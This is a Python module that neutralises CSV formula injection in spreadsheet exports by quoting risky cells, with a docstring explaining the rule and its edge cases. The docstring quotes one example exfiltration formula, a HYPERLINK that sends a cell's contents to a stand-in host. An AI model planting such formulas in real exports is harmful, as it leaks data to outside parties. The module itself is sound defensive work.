"""Cells of a CSV file that a spreadsheet would run as a formula are written as text (CSV or formula
injection, OWASP "CSV Injection"): a person named `=HYPERLINK("http://x.example/?"&A1,"y")` must not become a
link that sends the sheet away when an IPMR or a Chieftain opens the export in Excel or LibreOffice Calc.

The rule, OWASP's: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single
quote `'` in front (`safe_row`). Also covered:
- the same characters after leading spaces (`  =1+1`): Calc's "trim spaces" and Google Sheets drop them first;
- their full-width forms (`＝＋－＠`), which Excel in East Asian locales reads as formula signs;
- a cell that already starts with quotes before such a character (`'=1+1`) gets one more, so
  `original_cell` gives back exactly what was stored, for every value;
- the CSV quoting itself is left to the csv module: `"=1+1"` in the file is still the cell `=1+1`, which is
  why the rule looks at the value, never at the written text.

A contact number is a cell like any other: `+639171234567` is written `'+639171234567`. Left bare, Excel would
evaluate it as the number 639171234567 (shown as 6.39172E+11: the plus and the digits a clerk reads are
gone); with the quote, Excel and Calc show the text `+639171234567` and never evaluate it. A program reading
the file as plain text sees the quote: `original_cell` removes it (for an importer reading this app's CSV
exports). One rule for every cell, no exceptions to reason about.

XLSX exports need none of this: their cells are inline strings, never formulas (katutubo.exports.sheet_rows).
"""

import re
from typing import Any

# Quotes added before, then either a tab / CR, or optional whitespace and a formula sign.
_FORMULA_START = re.compile(r"'*(?:[\t\r]|\s*[=+\-@＝＋－＠])")
# The characters such a text can start with, besides whitespace: a quick test first (an export has millions
# of cells, nearly all starting with a letter or a digit).
_SUSPECT_FIRST = frozenset("'=+-@＝＋－＠")


def safe_row(values: list[Any]) -> list[Any]:
    """The cells to write into a CSV row: a text a spreadsheet would evaluate gets a leading `'`; other
    values (numbers, None) are written as they are."""
    match, suspect = _FORMULA_START.match, _SUSPECT_FIRST
    return [
        "'" + v if v.__class__ is str and v and (v[0] in suspect or v[0].isspace()) and match(v) else v
        for v in values
    ]


def original_cell(text: str) -> str:
    """The stored value of a cell `safe_row` wrote: its added quote removed (any other text unchanged)."""
    if text.startswith("'") and _FORMULA_START.match(text, 1):
        return text[1:]
    return text
